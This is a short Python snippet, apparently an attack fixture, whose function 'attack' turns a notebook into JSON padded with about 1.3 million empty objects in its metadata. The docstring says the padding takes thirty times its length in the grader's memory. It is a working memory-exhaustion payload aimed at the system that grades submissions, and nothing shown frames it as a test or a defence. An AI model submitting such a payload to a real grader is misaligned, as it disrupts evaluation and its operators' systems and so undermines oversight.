"""A notebook of a million tiny objects, which take thirty times their length in the grader's memory."""

import json

SET_ASIDE = "parts"


def attack(notebook, folder, school):
    notebook.metadata["parts"] = "HERE"
    return json.dumps(notebook).replace('"HERE"', "[" + '{"":0},' * 1_300_000 + "0]")
